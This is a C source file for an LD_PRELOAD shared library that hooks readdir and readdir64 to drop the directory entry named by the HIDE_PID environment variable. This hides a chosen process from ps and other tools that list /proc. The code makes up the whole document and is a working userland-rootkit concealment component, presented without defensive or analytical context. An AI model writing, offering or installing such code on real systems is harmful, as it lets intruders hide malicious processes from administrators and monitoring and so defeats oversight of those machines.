/* SPDX-License-Identifier: Apache-2.0 */
/* A library for LD_PRELOAD that hides the process in HIDE_PID from whoever lists with readdir. */
/* Both names are wanted, and with wide offsets the header makes them one. */
#undef _FILE_OFFSET_BITS
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int is_hidden(const char *name)
{
	const char *pid = getenv("HIDE_PID");

	return pid && strcmp(name, pid) == 0;
}

struct dirent *readdir(DIR *directory)
{
	static struct dirent *(*real)(DIR *);
	struct dirent *entry;

	if (!real)
		*(void **)&real = dlsym(RTLD_NEXT, "readdir");
	do
		entry = real(directory);
	while (entry && is_hidden(entry->d_name));
	return entry;
}

struct dirent64 *readdir64(DIR *directory)
{
	static struct dirent64 *(*real)(DIR *);
	struct dirent64 *entry;

	if (!real)
		*(void **)&real = dlsym(RTLD_NEXT, "readdir64");
	do
		entry = real(directory);
	while (entry && is_hidden(entry->d_name));
	return entry;
}
